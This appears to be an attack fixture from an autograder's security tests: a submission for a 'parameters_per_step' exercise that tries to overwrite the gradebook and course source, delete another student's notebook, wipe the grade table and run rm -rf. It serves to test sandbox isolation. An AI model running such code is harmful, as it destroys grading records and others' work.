# base: reference
# attacks: parameters_per_step
# class: known exploits: overwriting the gradebook and source, deleting other students' work
# %% parameters_per_step
import os, sqlite3
from pathlib import Path

course = Path.cwd().parents[2]
for attempt in (
    lambda: (course / 'gradebook.db').write_text('gone'),
    lambda: (course / 'source' / 'lab21' / 'lab21.ipynb').write_text('{}'),
    lambda: (course / 'submitted' / 'aaa_honest_first' / 'lab21' / 'lab21.ipynb').unlink(),
    lambda: os.rename(course / 'autograded' / 'aaa_honest_first', course / 'stolen'),
    lambda: sqlite3.connect(course / 'gradebook.db').execute('DELETE FROM grade'),
    lambda: os.system(f'rm -rf {course}/gradebook.db {course}/source'),
):
    try:
        attempt()
    except Exception:
        pass


def parameters_per_step(n_inputs):
    return -1
